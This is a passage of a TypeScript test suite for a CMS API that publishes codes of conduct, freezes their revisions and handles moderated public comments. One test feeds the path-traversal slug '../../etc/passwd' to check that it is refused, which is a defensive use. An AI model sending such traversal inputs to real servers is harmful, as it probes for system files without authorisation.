import { randomBytes } from 'node:crypto'

import type { Payload } from 'payload'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'

import { COMMENT_LIMITS } from '@/consultation/comments/commentLimits'
import { withDeliveryErrors } from '@/delivery/api/errors'
import { publishDueItems } from '@/jobs/publishDueItems'
import { PEER_HEADER } from '@/platform/http/peerHeader'
import { handleCode, handleDiff, handleListComments, handlePostComment, handleRevision, handleRevisions } from '@/consultation/http/handleCodeRequests'
import {
  createCode,
  makeActor,
  publishedCodeInConsultation,
  publishRevision,
  publishThroughWorkflow,
  readCodeSpec,
  REVISED_CLAUSE_2,
  sampleCode,
  saveCodeDraft,
  type Actor,
  type CodeSpec,
} from '../helpers/codes'
import { rest } from '../helpers/rest'
import { getTestPayload } from '../helpers/testPayload'
import { formatDateTimeBare } from '@/i18n/formatDateTime'

let payload: Payload
let editor: Actor
let reviewer: Actor
let moderator: Actor

beforeAll(async () => {
  payload = await getTestPayload()
  ;[editor, reviewer, moderator] = await Promise.all([makeActor(payload, ['editor']), makeActor(payload, ['reviewer']), makeActor(payload, ['editor'])])
})

// ---------------------------------------------------------------------------------------
// Requests through the same handlers the /api/v1/codes routes use.

/** Anything a handler did not turn into a 4xx: every test fails if one happened. */
const serverFaults: unknown[] = []
afterEach(() => {
  const faults = serverFaults.splice(0)
  expect(faults.map(String)).toEqual([])
})

type Answer = { status: number; body: any; text: string; headers: Headers }

async function answer(request: Request, work: (request: Request) => Promise<Response>): Promise<Answer> {
  const response = await withDeliveryErrors(
    () => work(request),
    (error) => serverFaults.push(error),
    request,
  )
  const text = await response.text()
  return { status: response.status, body: text ? JSON.parse(text) : null, text, headers: response.headers }
}

const url = (slug: string, path = '') => `http://newsroom.test/api/v1/codes/${slug}${path}`
// English answers unless a test asks otherwise, as an agency's client would ask for them.
const inEnglish = { 'accept-language': 'en' }
const getCode = (slug: string) => answer(new Request(url(slug), { headers: inEnglish }), (request) => handleCode(payload, request, slug))
const getRevisions = (slug: string) =>
  answer(new Request(url(slug, '/revisions'), { headers: inEnglish }), (request) => handleRevisions(payload, request, slug))
const getRevision = (slug: string, label: string) =>
  answer(new Request(url(slug, `/revisions/${label}`), { headers: inEnglish }), (request) => handleRevision(payload, request, slug, label))
const getDiff = (slug: string, query: string) =>
  answer(new Request(url(slug, `/diff${query}`), { headers: inEnglish }), (request) => handleDiff(payload, request, slug))
const getComments = (slug: string) =>
  answer(new Request(url(slug, '/comments'), { headers: inEnglish }), (request) => handleListComments(payload, request, slug))

let serial = 0
/** A client network (IPv6 /64) of its own per request, so the hourly limit per network stays out of the way. */
const freshIp = () => `2001:db8:c0de:${(++serial).toString(16)}::1`
const words = (count: number) => Array.from({ length: count }, () => randomBytes(4).toString('hex')).join(' ')
/** A comment nothing else resembles: the near-duplicate check compares runs of words. */
const freshText = (lead = 'Đề nghị làm rõ') => `${lead} ${words(10)}.`

const commentBody = (overrides: Record<string, unknown> = {}) => ({
  name: 'Trần Thị Góp Ý',
  email: `gop.y.${++serial}@example.vn`,
  group: 'parent',
  organisation: 'Hội cha mẹ học sinh',
  text: freshText(),
  consent: true,
  ...overrides,
})

type PostOptions = { ip?: string; now?: Date; raw?: string; lang?: 'vi' | 'en' }
function postComment(slug: string, body: unknown, options: PostOptions = {}): Promise<Answer> {
  const request = new Request(url(slug, '/comments'), {
    method: 'POST',
    // As the app's HTTP server writes it: the TCP peer, the only address a client cannot choose.
    headers: { 'content-type': 'application/json', 'accept-language': options.lang ?? 'en', [PEER_HEADER]: options.ip ?? freshIp() },
    body: options.raw ?? JSON.stringify(body),
  })
  return answer(request, (request) => handlePostComment(payload, request, slug, { now: options.now }))
}

/** Comments as stored, read as the system reads them. */
async function storedComments(text: string) {
  const { docs } = await payload.find({ collection: 'code-comments', where: { text: { equals: text } }, overrideAccess: true, depth: 0 })
  return docs
}

async function storedComment(text: string) {
  const docs = await storedComments(text)
  expect(docs, `one stored comment with text ${text.slice(0, 40)}`).toHaveLength(1)
  return docs[0]!
}

/** The error a Local API call is refused with. */
async function refusal(
  work: Promise<unknown>,
): Promise<{ name: string; status?: number; message: string; data?: { errors?: Array<{ path: string; message: string }> } }> {
  try {
    await work
  } catch (error) {
    return error as never
  }
  throw new Error('expected the call to be refused')
}
const pathsOf = (error: Awaited<ReturnType<typeof refusal>>) => (error.data?.errors ?? []).map((item) => item.path)

const auditEntries = async (event: string, commentId: number) =>
  (
    await payload.find({
      collection: 'audit-log',
      where: { and: [{ event: { equals: event } }, { targetCollection: { equals: 'code-comments' } }, { targetId: { equals: String(commentId) } }] },
      overrideAccess: true,
      depth: 0,
    })
  ).docs

type PublicClause = { key: string; number: string; text: { vi: string; en: string }; heading: { vi: string; en: string }; html: { vi: string; en: string } }
const clausesOf = (resource: { chapters: Array<{ articles: Array<{ clauses: PublicClause[] }> }> }): PublicClause[] =>
  resource.chapters.flatMap((chapter) => chapter.articles.flatMap((article) => article.clauses))
const clauseKeys = (spec: CodeSpec) => spec.chapters.flatMap((chapter) => chapter.articles.flatMap((article) => article.clauses.map((clause) => clause.key!)))

/** Every key anywhere in a JSON value, nested objects and arrays included. */
function keysIn(value: unknown, found = new Set<string>()): Set<string> {
  if (Array.isArray(value)) value.forEach((item) => keysIn(item, found))
  else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      found.add(key)
      keysIn(item, found)
    }
  }
  return found
}

const tag = () => randomBytes(3).toString('hex')
const DAY = 86_400_000
const HOUR = 3_600_000

// ---------------------------------------------------------------------------------------

describe('publishing a code of conduct', () => {
  let code: Awaited<ReturnType<typeof createCode>>

  beforeAll(async () => {
    code = await createCode(payload, sampleCode(`xuat-ban-${tag()}`), editor)
  })

  it('serves nothing for a code that has only ever been a draft', async () => {
    const response = await getCode(code.slug)
    expect(response.status).toBe(404)
    expect(response.body.error.field).toBe('slug')
  })

  it('freezes the revision: clauses numbered I.1.1 … II.3.2 in Vietnamese and English, without the internal rationale', async () => {
    const published = await publishThroughWorkflow(code.id, editor, reviewer)
    expect(published.status).toBe(200)
    expect(published.body.stage).toBe('published')

    const response = await getCode(code.slug)
    expect(response.status).toBe(200)
    expect(response.body.revision).toBe('v0.1')
    const clauses = clausesOf(response.body)
    expect(clauses.map((clause) => clause.number)).toEqual(['I.1.1', 'I.1.2', 'I.2.1', 'II.3.1', 'II.3.2'])
    expect(clauses.map((clause) => clause.key)).toEqual(clauseKeys(code.spec))
    expect(clauses[1]).toMatchObject({
      number: 'I.1.2',
      heading: { vi: 'Khoản mẫu 2', en: 'Sample clause 2' },
      text: code.spec.chapters[0]!.articles[0]!.clauses[1]!.text,
    })
    expect(clauses[1]!.html.en).toContain('Platforms must verify the age of users')
    expect(response.body.chapters.map((chapter: { roman: string; title: { en: string } }) => [chapter.roman, chapter.title.en])).toEqual([
      ['I', 'General provisions'],
      ['II', 'Duties of platforms'],
    ])

    const revisions = await getRevisions(code.slug)
    const revision = await getRevision(code.slug, 'v0.1')
    for (const served of [response, revisions, revision]) {
      expect(served.status).toBe(200)
      expect(keysIn(served.body).has('rationale')).toBe(false)
      expect(served.text).not.toContain('RATIONALE-NOI-BO')
    }
    expect(revision.body.chapters).toEqual(response.body.chapters)
  })

  it('keeps the rationale from the public on the collections themselves', async () => {
    const anonymous = await payload.find({ collection: 'conduct-codes', where: { id: { equals: code.id } }, locale: 'all', overrideAccess: false })
    expect(anonymous.docs).toHaveLength(1)
    expect(JSON.stringify(anonymous.docs)).not.toContain('RATIONALE-NOI-BO')
    const frozen = await rest('GET', `/code-revisions?where[code][equals]=${code.id}`)
    expect(frozen.status).toBe(200)
    expect(frozen.body.docs).toHaveLength(1)
    expect(JSON.stringify(frozen.body)).not.toContain('RATIONALE-NOI-BO')
    const staff = await readCodeSpec(payload, code.id, editor)
    expect(staff.chapters[0]!.articles[0]!.clauses[0]!.rationale).toMatch(/^RATIONALE-NOI-BO/)
  })

  it('leaves the frozen revision as it was when the draft is edited after publishing', async () => {
    const before = await getRevision(code.slug, 'v0.1')
    const edited = structuredClone(code.spec)
    edited.chapters[0]!.articles[0]!.clauses[0]!.text = { vi: 'Bản nháp sửa sau khi công bố.', en: 'A draft edited after publication.' }
    edited.chapters[0]!.articles[0]!.clauses[0]!.rationale = 'RATIONALE-NOI-BO sửa trong bản nháp'
    await saveCodeDraft(payload, code.id, edited, editor)

    const after = await getRevision(code.slug, 'v0.1')
    expect(after.body.chapters).toEqual(before.body.chapters)
    const current = await getCode(code.slug)
    expect(clausesOf(current.body)[0]!.text.vi).toBe(code.spec.chapters[0]!.articles[0]!.clauses[0]!.text.vi)
    expect(current.text).not.toContain('Bản nháp sửa sau khi công bố')
    expect((await getRevisions(code.slug)).body.revisions.map((item: { revision: string }) => item.revision)).toEqual(['v0.1'])
  })

  it('refuses to publish the draft again under the label v0.1, which is already frozen', async () => {
    const response = await publishThroughWorkflow(code.id, editor, reviewer)
    expect(response.status).toBe(409)
    expect(response.body.error).toMatchObject({ code: 'revision_frozen', field: 'revisionLabel' })
    expect((await getRevisions(code.slug)).body.revisions).toHaveLength(1)
    expect(clausesOf((await getCode(code.slug)).body)[0]!.text.en).toBe('This code applies to every online platform whose users include children.')
  })

  it('adds a second frozen revision when v0.2 is published, leaving v0.1 untouched', async () => {
    const v01 = await getRevision(code.slug, 'v0.1')
    await publishRevision(payload, code, 'v0.2', editor, reviewer)

    const revisions = await getRevisions(code.slug)
    expect(revisions.body.revisions.map((item: { revision: string }) => item.revision)).toEqual(['v0.1', 'v0.2'])
    expect((await getRevision(code.slug, 'v0.1')).body.chapters).toEqual(v01.body.chapters)
    const current = await getCode(code.slug)
    expect(current.body.revision).toBe('v0.2')
    expect(clausesOf(current.body)[1]!.text).toEqual(REVISED_CLAUSE_2)
    expect(current.body.changelog.map((entry: { revision: string }) => entry.revision)).toEqual(['v0.1', 'v0.2'])
  })

  it('answers 404 naming the field revision for a revision that was never published', async () => {
    const response = await getRevision(code.slug, 'v9.9')
    expect(response.status).toBe(404)
    expect(response.body.error).toMatchObject({ code: 'not_found', field: 'revision' })
    expect(response.body.error.message).toContain('v0.1, v0.2')
  })

  it('answers 404 for a code slug that does not exist', async () => {
    for (const slug of ['khong-co-bo-quy-tac-nay', '../../etc/passwd']) {
      const response = await getCode(slug)
      expect(response.status).toBe(404)
      expect(response.body.error.code).toBe('not_found')
    }
  })

  it('never lets staff write or rewrite a frozen revision outside publishing', async () => {
    const admin = await makeActor(payload, ['admin'])
    const [frozen] = (await payload.find({ collection: 'code-revisions', where: { code: { equals: code.id } }, sort: 'publishedAt', overrideAccess: true }))
      .docs
    const changed = await refusal(
      payload.update({ collection: 'code-revisions', id: frozen!.id, data: { revision: 'v0.1-sua' }, user: admin, overrideAccess: false }),
    )
    expect(changed.status).toBe(403)
    const forged = await refusal(
      payload.create({
        collection: 'code-revisions',
        data: { code: code.id, slug: code.slug, revision: 'v9.0', publishedAt: new Date().toISOString(), snapshot: {} },
        user: admin,
        overrideAccess: false,
      }),
    )
    expect(forged.status).toBe(403)
    expect((await getRevisions(code.slug)).body.revisions).toHaveLength(2)
  })
})

describe('publishing a code on schedule', () => {
  it('freezes the revision when the scheduler publishes it, as a person publishing does', async () => {
    const code = await createCode(payload, sampleCode(`lich-${tag()}`), editor)
    const act = (actor: Actor, body: Record<string, unknown>) => rest('POST', `/workflow/conduct-codes/${code.id}`, { token: actor.token, body })
    expect((await act(editor, { action: 'submit' })).status).toBe(200)
    expect((await act(reviewer, { action: 'approve' })).status).toBe(200)
    const publishAt = new Date(Date.now() + HOUR)
    expect((await act(reviewer, { action: 'schedule', publishAt: publishAt.toISOString() })).body.stage).toBe('scheduled')
    expect((await getCode(code.slug)).status).toBe(404)

    const run = await publishDueItems(payload, new Date(publishAt.getTime() + 1000))
    expect(run.published).toContainEqual({ collection: 'conduct-codes', id: code.id })
    const response = await getCode(code.slug)
    expect(response.status).toBe(200)
    expect(response.body.revision).toBe('v0.1')
    expect(clausesOf(response.body).map((clause) => clause.number)).toEqual(['I.1.1', 'I.1.2', 'I.2.1', 'II.3.1', 'II.3.2'])
    expect(response.text).not.toContain('RATIONALE-NOI-BO')
  })
})

describe('withdrawing a published code', () => {
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>
  let commentText: string

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `rut-${tag()}`, editor, reviewer)
    commentText = freshText('Ý kiến trên bộ quy tắc sẽ bị rút')
    expect((await postComment(code.slug, commentBody({ text: commentText }))).status).toBe(202)
    const { id } = await storedComment(commentText)
    await payload.update({ collection: 'code-comments', id, data: { status: 'published' }, user: moderator, overrideAccess: false })
    expect((await getComments(code.slug)).body.comments).toHaveLength(1)
    const withdrawn = await rest('POST', `/workflow/conduct-codes/${code.id}`, {
      token: reviewer.token,
      body: { action: 'withdraw', comment: 'Dự thảo được thay thế.' },
    })
    expect(withdrawn.body.stage).toBe('withdrawn')
  })

  it('takes the code, its revisions and its comments out of the v1 API', async () => {
    expect((await getCode(code.slug)).status).toBe(404)
    expect((await getRevisions(code.slug)).status).toBe(404)
    expect((await getRevision(code.slug, 'v0.1')).status).toBe(404)
    expect((await getComments(code.slug)).status).toBe(404)
    expect((await postComment(code.slug, commentBody())).status).toBe(404)
  })

  it('takes them out of anonymous REST and Local API reads too: every channel gives the same answer', async () => {
    expect((await rest('GET', `/conduct-codes/${code.id}`)).status).toBe(404)
    const revisions = await rest('GET', `/code-revisions?where[code][equals]=${code.id}`)
    expect(revisions.body.docs).toEqual([])
    const comments = await rest('GET', `/code-comments?where[code][equals]=${code.id}`)
    expect(comments.body.docs).toEqual([])
    const consultations = await rest('GET', `/code-consultations?where[code][equals]=${code.id}`)
    expect(consultations.body.docs).toEqual([])
    const local = await payload.find({ collection: 'code-revisions', where: { code: { equals: code.id } }, overrideAccess: false })
    expect(local.docs).toEqual([])
    const staff = await payload.find({ collection: 'code-revisions', where: { code: { equals: code.id } }, user: editor, overrideAccess: false })
    expect(staff.docs).toHaveLength(1)
    const staffComments = await payload.find({ collection: 'code-comments', where: { code: { equals: code.id } }, user: moderator, overrideAccess: false })
    expect(staffComments.docs.map((doc) => doc.text)).toEqual([commentText])
  })
})

describe('the diff between two revisions', () => {
  let code: Awaited<ReturnType<typeof createCode>>

  beforeAll(async () => {
    code = await createCode(payload, sampleCode(`so-sanh-${tag()}`), editor)
    expect((await publishThroughWorkflow(code.id, editor, reviewer)).status).toBe(200)
    await publishRevision(payload, code, 'v0.2', editor, reviewer)
  })

  it('reports a clause moved to another article, with its old and new numbers', async () => {
    const response = await getDiff(code.slug, '?from=v0.1&to=v0.2')
    expect(response.status).toBe(200)
    const movedKey = code.spec.chapters[1]!.articles[0]!.clauses[0]!.key
    const moved = response.body.clauses.find((clause: { key: string }) => clause.key === movedKey)
    expect(moved).toMatchObject({ status: 'unchanged', moved: true, renumbered: true, from: { number: 'II.3.1' }, to: { number: 'I.1.3' } })
    const followerKey = code.spec.chapters[1]!.articles[0]!.clauses[1]!.key
    expect(response.body.clauses.find((clause: { key: string }) => clause.key === followerKey)).toMatchObject({
      status: 'unchanged',
      moved: false,
      renumbered: true,
      from: { number: 'II.3.2' },
      to: { number: 'II.3.1' },
    })
    expect(response.body.summary).toMatchObject({ added: 0, removed: 0, changed: 1, moved: 1 })
  })

  it('reports a reworded clause as changed, word by word in both languages', async () => {
    const response = await getDiff(code.slug, '?from=v0.1&to=v0.2')
    const changedKey = code.spec.chapters[0]!.articles[0]!.clauses[1]!.key
    const changed = response.body.clauses.find((clause: { key: string }) => clause.key === changedKey)
    expect(changed).toMatchObject({ status: 'changed', moved: false, from: { number: 'I.1.2' }, to: { number: 'I.1.2' } })
    const ops = (lang: 'vi' | 'en', op: string) =>
      changed.text[lang].filter((item: { op: string }) => item.op === op).map((item: { text: string }) => item.text.trim())
    expect(ops('vi', 'delete')).toContain('theo')
    expect(ops('vi', 'insert')).toContain('bằng')
    expect(ops('vi', 'insert').join(' ')).toContain('của trẻ em')
    expect(ops('en', 'insert').join(' ')).toContain('manner')
    expect(changed.text.vi.map((item: { op: string; text: string }) => (item.op === 'delete' ? '' : item.text)).join('')).toBe(REVISED_CLAUSE_2.vi)
  })

  it('answers 400 naming the field from when from is missing', async () => {
    const response = await getDiff(code.slug, '?to=v0.2')
    expect(response.status).toBe(400)
    expect(response.body.error).toMatchObject({ code: 'invalid_parameter', field: 'from' })
  })

  it('answers 404 naming the field for an unknown revision on either side', async () => {
    const from = await getDiff(code.slug, '?from=v0.9&to=v0.2')
    expect(from.status).toBe(404)
    expect(from.body.error.field).toBe('from')
    const to = await getDiff(code.slug, '?from=v0.1&to=v7.0')
    expect(to.status).toBe(404)
    expect(to.body.error.field).toBe('to')
  })
})

describe('the consultation window', () => {
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>
  let opensAt: Date
  let closesAt: Date

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `cua-so-${tag()}`, editor, reviewer)
    opensAt = new Date(code.consultation.opensAt)
    closesAt = new Date(code.consultation.closesAt)
  })

  const longDate = (date: Date) => formatDateTimeBare(date)

  it('refuses a comment before the consultation opens with 409, giving its dates', async () => {
    const body = commentBody()
    const response = await postComment(code.slug, body, { now: new Date(opensAt.getTime() - HOUR) })
    expect(response.status).toBe(409)
    expect(response.body.error.code).toBe('consultation_closed')
    expect(response.body.error.message).toContain('has not opened yet')
    expect(response.body.error.message).toContain(longDate(opensAt))
    expect(response.body.error.message).toContain(longDate(closesAt))
    expect(response.body.error.message).toContain(opensAt.toISOString())
    expect(await storedComments(body.text)).toHaveLength(0)
  })

  it('refuses a comment once the consultation has closed with 409, giving its dates', async () => {
    for (const now of [closesAt, new Date(closesAt.getTime() + DAY)]) {
      const body = commentBody()
      const response = await postComment(code.slug, body, { now })
      expect(response.status).toBe(409)
      expect(response.body.error.message).toContain('is closed')
      expect(response.body.error.message).toContain(closesAt.toISOString())
      expect(response.body.error.message).toContain(longDate(closesAt))
      expect(await storedComments(body.text)).toHaveLength(0)
    }
  })

  it('tells a Vietnamese reader in Vietnamese why the consultation refuses a comment, and what is wrong with a field', async () => {
    const early = await postComment(code.slug, commentBody(), { now: new Date(opensAt.getTime() - HOUR), lang: 'vi' })
    expect(early.status).toBe(409)
    expect(early.body.error.code).toBe('consultation_closed')
    expect(early.body.error.message).toBe(
      `Đợt lấy ý kiến chưa mở: diễn ra từ ${longDate(opensAt)} đến ${longDate(closesAt)} (giờ Việt Nam) [${opensAt.toISOString()} – ${closesAt.toISOString()}].`,
    )
    const noEmail = await postComment(code.slug, commentBody({ email: '' }), { lang: 'vi' })
    expect(noEmail.status).toBe(400)
    expect(noEmail.body.error).toMatchObject({ code: 'invalid_parameter', field: 'email', message: 'Cần ghi địa chỉ email; email không bao giờ được công bố.' })
    const accepted = await postComment(code.slug, commentBody(), { lang: 'vi' })
    expect(accepted.status).toBe(202)
    expect(accepted.body.message).toBe('Cảm ơn bạn: góp ý đang chờ kiểm duyệt và sẽ được đăng sau khi biên tập viên đọc.')
  })

  it('accepts a comment on clause I.1.2 while open and keeps it pending, tied to the clause and the revision', async () => {
    const body = commentBody({ clause: 'I.1.2' })
    const response = await postComment(code.slug, body)
    expect(response.status).toBe(202)
    expect(response.body).toMatchObject({ status: 'pending', clause: 'I.1.2' })
    const stored = await storedComment(body.text)
    expect(stored).toMatchObject({
      status: 'pending',
      clauseKey: code.spec.chapters[0]!.articles[0]!.clauses[1]!.key,
      clauseNumber: 'I.1.2',
      revision: 'v0.1',
      code: code.id,
      consultation: code.consultation.id,
      name: body.name,
      email: body.email,
      consent: true,
    })
  })

  it('accepts a clause given by its stable id, and a comment on the whole code', async () => {
    const clause2 = code.spec.chapters[0]!.articles[0]!.clauses[1]!.key!
    const byKey = commentBody({ clause: clause2 })
    expect((await postComment(code.slug, byKey)).body).toMatchObject({ status: 'pending', clause: 'I.1.2' })
    expect(await storedComment(byKey.text)).toMatchObject({ clauseKey: clause2, clauseNumber: 'I.1.2', status: 'pending' })

    const whole = commentBody()
    expect((await postComment(code.slug, whole)).status).toBe(202)
    expect(await storedComment(whole.text)).toMatchObject({ clauseKey: null, clauseNumber: null })
  })

  it('takes the opening time as open and the closing time as closed', async () => {
    const atOpening = commentBody()
    expect((await postComment(code.slug, atOpening, { now: opensAt })).status).toBe(202)
    const lastMillisecond = commentBody()
    expect((await postComment(code.slug, lastMillisecond, { now: new Date(closesAt.getTime() - 1) })).status).toBe(202)
  })

  it('refuses comments on a published code that has no consultation', async () => {
    const quiet = await createCode(payload, sampleCode(`khong-lay-y-kien-${tag()}`), editor)
    expect((await publishThroughWorkflow(quiet.id, editor, reviewer)).status).toBe(200)
    const response = await postComment(quiet.slug, commentBody())
    expect(response.status).toBe(409)
    expect(response.body.error.code).toBe('consultation_closed')
    expect((await getCode(quiet.slug)).body.consultation).toBeNull()
  })
})

describe('a comment with bad input', () => {
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `dau-vao-${tag()}`, editor, reviewer)
  })

  const expectField = async (body: unknown, field: string, options: PostOptions = {}) => {
    const response = await postComment(code.slug, body, options)
    expect(response.status, JSON.stringify(response.body)).toBe(400)
    expect(response.body.error.field).toBe(field)
    expect(response.body.error.message).toBeTruthy()
    return response
  }

  /** Distinct words up to exactly `length` characters. */
  const textOf = (length: number, filler = (n: number) => `ykien${n}`) => {
    let text = ''
    for (let n = 0; [...text].length < length; n += 1) text += `${filler(n)} `
    return [...text].slice(0, length - 1).join('') + 'z'
  }

  it('refuses a text of 5,001 characters naming the field text, and accepts 5,000', async () => {
    await expectField(commentBody({ text: textOf(5001) }), 'text')
    const longest = textOf(5000)
    expect((await postComment(code.slug, commentBody({ text: longest }))).status).toBe(202)
    expect((await storedComment(longest)).text).toHaveLength(5000)
  })

  it('counts characters, not UTF-16 units: 5,000 characters with emoji are accepted', async () => {
    const withEmoji = textOf(5000, (n) => `trẻ${n}😀`)
    expect([...withEmoji]).toHaveLength(5000)
    expect(withEmoji.length).toBeGreaterThan(5000)
    const response = await postComment(code.slug, commentBody({ text: withEmoji }))
    expect(response.status, response.text).toBe(202)
    expect((await storedComment(withEmoji)).text).toBe(withEmoji)
  })

  it('refuses a clause the revision does not have, naming the field clause', async () => {
    const response = await expectField(commentBody({ clause: 'IX.9.9' }), 'clause')
    expect(response.body.error.message).toContain('IX.9.9')
    await expectField(commentBody({ clause: 'cl-khongtontai' }), 'clause')
    const asNumber = commentBody({ clause: 12 })
    await expectField(asNumber, 'clause')
    expect(await storedComments(asNumber.text)).toHaveLength(0)
  })

  it('refuses a comment without consent to publication, naming the field consent', async () => {
    const { consent: _omitted, ...withoutConsent } = commentBody()
    await expectField(withoutConsent, 'consent')
    await expectField(commentBody({ consent: false }), 'consent')
    await expectField(commentBody({ consent: 'false' }), 'consent')
  })

  it('refuses an address that is not an email address, naming the field email', async () => {
    for (const email of [
      'khong-phai-email',
      'ten@',
      '@example.vn',
      'ten@example',
      'ten@@example.vn',
      'ten..gop@example.vn',
      'ten@example.c',
      'tên@ví-dụ.vn',
      'a@-bad.example.vn',
    ]) {
      const body = commentBody({ email })
      await expectField(body, 'email')
      expect(await storedComments(body.text)).toHaveLength(0)
    }
  })

  it('refuses a body that is not JSON, naming the field body', async () => {
    await expectField(null, 'body', { raw: '{"name":"Lan","text":' })
    await expectField(null, 'body', { raw: '' })
    await expectField(['not', 'an', 'object'], 'body')
  })

  it('refuses a body over 64 KB with 413', async () => {
    const response = await postComment(code.slug, null, { raw: JSON.stringify(commentBody({ text: 'x'.repeat(70 * 1024) })) })
    expect(response.status).toBe(413)
    expect(response.body.error.field).toBe('body')
  })

  it('answers 202 to a robot that fills in the hidden website field, and stores nothing', async () => {
    const body = commentBody({ website: 'http://spam.example/mua-ngay' })
    const response = await postComment(code.slug, body)
    expect(response.status).toBe(202)
    expect(response.body.status).toBe('pending')
    expect(await storedComments(body.text)).toHaveLength(0)
  })

  it('refuses the same comment sent again with other case and punctuation with 409', async () => {
    const original = `Nền tảng cần có kênh báo cáo riêng cho trẻ em, dễ tìm và dễ dùng ${words(3)}.`
    expect((await postComment(code.slug, commentBody({ text: original }))).status).toBe(202)
    const again = original.toUpperCase().replace(/[,.]/g, ' ! ').replace(/ /g, '  ')
    const response = await postComment(code.slug, commentBody({ text: again }))
    expect(response.status).toBe(409)
    expect(response.body.error).toMatchObject({ code: 'duplicate_comment', field: 'text' })
    expect(await storedComments(again)).toHaveLength(0)
  })

  it('refuses a long comment sent again with one word changed with 409, and accepts a different one', async () => {
    const sentence = [
      'Chúng tôi đề nghị bổ sung quy định yêu cầu các nền tảng trực tuyến công bố định kỳ báo cáo minh bạch',
      'về số lượng nội dung xâm hại trẻ em đã được gỡ bỏ, thời gian xử lý trung bình và số lượng báo cáo từ người dùng',
      `để cơ quan quản lý và phụ huynh có thể theo dõi ${words(2)}.`,
    ].join(' ')
    expect((await postComment(code.slug, commentBody({ text: sentence }))).status).toBe(202)
    const oneWord = sentence.replace('định kỳ', 'hằng kỳ')
    expect(oneWord).not.toBe(sentence)
    expect((await postComment(code.slug, commentBody({ text: oneWord }))).status).toBe(409)
    expect((await postComment(code.slug, commentBody({ text: freshText('Một ý kiến hoàn toàn khác về thời hạn gỡ bỏ') }))).status).toBe(202)
  })

  it('answers 429 with Retry-After once one address has sent its hourly comments, refused ones included', async () => {
    const ip = '203.0.113.77'
    // A fixed moment inside the consultation, so the hour cannot roll over mid-test.
    const now = new Date(Date.now() + 2 * DAY)
    for (let n = 1; n < COMMENT_LIMITS.perIpPerHour; n += 1) {
      const response = await postComment(code.slug, commentBody({ text: '' }), { ip, now })
      expect(response.status, `comment ${n}: ${response.text}`).toBe(400)
    }
    const last = await postComment(code.slug, commentBody(), { ip, now })
    expect(last.status, last.text).toBe(202)
    const body = commentBody()
    const limited = await postComment(code.slug, body, { ip, now })
    expect(limited.status).toBe(429)
    expect(limited.body.error.code).toBe('rate_limited')
    const retryAfter = Number(limited.headers.get('Retry-After'))
    expect(retryAfter).toBeGreaterThan(0)
    expect(retryAfter).toBeLessThanOrEqual(3600)
    expect(await storedComments(body.text)).toHaveLength(0)
    expect((await postComment(code.slug, commentBody(), { now })).status).toBe(202)
  })

  it('answers 404 to a comment on a code that does not exist', async () => {
    const response = await postComment('khong-co-bo-quy-tac-nay', commentBody())
    expect(response.status).toBe(404)
    expect(response.body.error.code).toBe('not_found')
  })
})

describe('moderating and answering comments', () => {
  let code: Awaited<ReturnType<typeof publishedCodeInConsultation>>
  const texts = {
    toPublish: freshText('Cần quy định rõ thời hạn xác minh tuổi'),
    toReject: freshText('Quảng cáo'),
    stillPending: freshText('Ý kiến chưa duyệt'),
    toAnswer: freshText('Đề nghị viết lại khoản hai'),
  }
  const ids: Record<keyof typeof texts, number> = { toPublish: 0, toReject: 0, stillPending: 0, toAnswer: 0 }

  const moderate = (id: number, data: Record<string, unknown>, user: Actor = moderator) =>
    payload.update({ collection: 'code-comments', id, data, user, overrideAccess: false, depth: 0 })

  beforeAll(async () => {
    code = await publishedCodeInConsultation(payload, `kiem-duyet-${tag()}`, editor, reviewer)
    for (const key of Object.keys(texts) as Array<keyof typeof texts>) {
      const response = await postComment(code.slug, commentBody({ text: texts[key], clause: 'I.1.2' }))
      expect(response.status).toBe(202)
      ids[key] = Number((await storedComment(texts[key])).id)
    }
    // The answers point at the clauses of the next revision.
    await publishRevision(payload, code, 'v0.2', editor, reviewer)
  })

  it('keeps a pending comment out of the public list and out of anonymous reads', async () => {
    const listed = await getComments(code.slug)
    expect(listed.status).toBe(200)
    expect(listed.body.comments).toEqual([])
    expect(listed.text).not.toContain(texts.stillPending)
    const anonymous = await payload.find({ collection: 'code-comments', where: { code: { equals: code.id } }, overrideAccess: false })
    expect(anonymous.docs).toEqual([])
    const byId = await refusal(payload.findByID({ collection: 'code-comments', id: ids.stillPending, overrideAccess: false }))
    expect(byId.status).toBe(404)
    expect((await rest('GET', `/code-comments/${ids.stillPending}`)).status).toBe(404)
  })

  it('lists a comment once an editor publishes it, without who wrote it, and records the decision', async () => {
    const published = await moderate(ids.toPublish, { status: 'published' })
    expect(published.status).toBe('published')
    const stored = await payload.findByID({ collection: 'code-comments', id: ids.toPublish, overrideAccess: true, depth: 0 })
    expect(stored.moderatedBy).toBe(moderator.id)
    expect(stored.moderatedAt).toBeTruthy()

    const listed = await getComments(code.slug)
    const shown = listed.body.comments.find((comment: { id: number }) => comment.id === ids.toPublish)
    expect(shown).toMatchObject({
      text: texts.toPublish,
      clauseNumber: 'I.1.2',
      revision: 'v0.1',
      group: 'parent',
      organisation: 'Hội cha mẹ học sinh',
      answer: null,
    })
    expect(Object.keys(shown).sort()).toEqual(['answer', 'clauseKey', 'clauseNumber', 'createdAt', 'group', 'id', 'organisation', 'revision', 'text'])

    const anonymous = await payload.findByID({ collection: 'code-comments', id: ids.toPublish, overrideAccess: false, depth: 0 })
    expect(anonymous.text).toBe(texts.toPublish)
    expect(anonymous).not.toHaveProperty('email')
    expect(anonymous).not.toHaveProperty('name')

    const [entry] = await auditEntries('comment_moderation', ids.toPublish)
    expect(entry).toMatchObject({ actorEmail: moderator.email, details: { from: 'pending', to: 'published' } })
  })

  it('refuses to reject a comment without a reason, naming rejectionReason, and rejects it with one', async () => {
    const error = await refusal(moderate(ids.toReject, { status: 'rejected' }))
    expect(error.status).toBe(400)
    expect(pathsOf(error)).toEqual(['rejectionReason'])
    expect(error.data?.errors?.[0]?.message).toBe('Góp ý bị từ chối cần có lý do.')
    expect((await payload.findByID({ collection: 'code-comments', id: ids.toReject, overrideAccess: true })).status).toBe('pending')

    const blank = await refusal(moderate(ids.toReject, { status: 'rejected', rejectionReason: '   ' }))
